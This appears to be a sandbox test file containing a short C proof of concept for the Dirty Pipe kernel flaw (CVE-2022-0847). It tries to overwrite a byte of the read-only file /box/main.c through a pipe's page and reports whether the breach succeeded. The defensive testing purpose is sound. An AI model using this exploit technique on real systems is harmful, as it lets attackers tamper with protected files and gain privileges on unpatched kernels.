/* attack: writes to a file that it may only read, through a pipe's page
 * expect: AC
 * exploit: CVE-2022-0847, Dirty Pipe
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
static char page[4096];
int main(void) {
    int p[2], fd = open("/box/main.c", O_RDONLY);
    off_t at = 0;
    char c[2] = "";
    if (fd < 0 || pipe(p) < 0) return 1;
    for (int i = 0; i < 16; i++) if (write(p[1], page, sizeof page) < 0) return 1;
    for (int i = 0; i < 16; i++) if (read(p[0], page, sizeof page) < 0) return 1;
    if (splice(fd, &at, p[1], 0, 1, 0) != 1 || write(p[1], "#", 1) != 1) return 1;
    if (pread(fd, c, 1, 1) != 1) return 1;
    puts(c[0] == '#' ? "BREACH wrote to a read-only file" : "held");
}
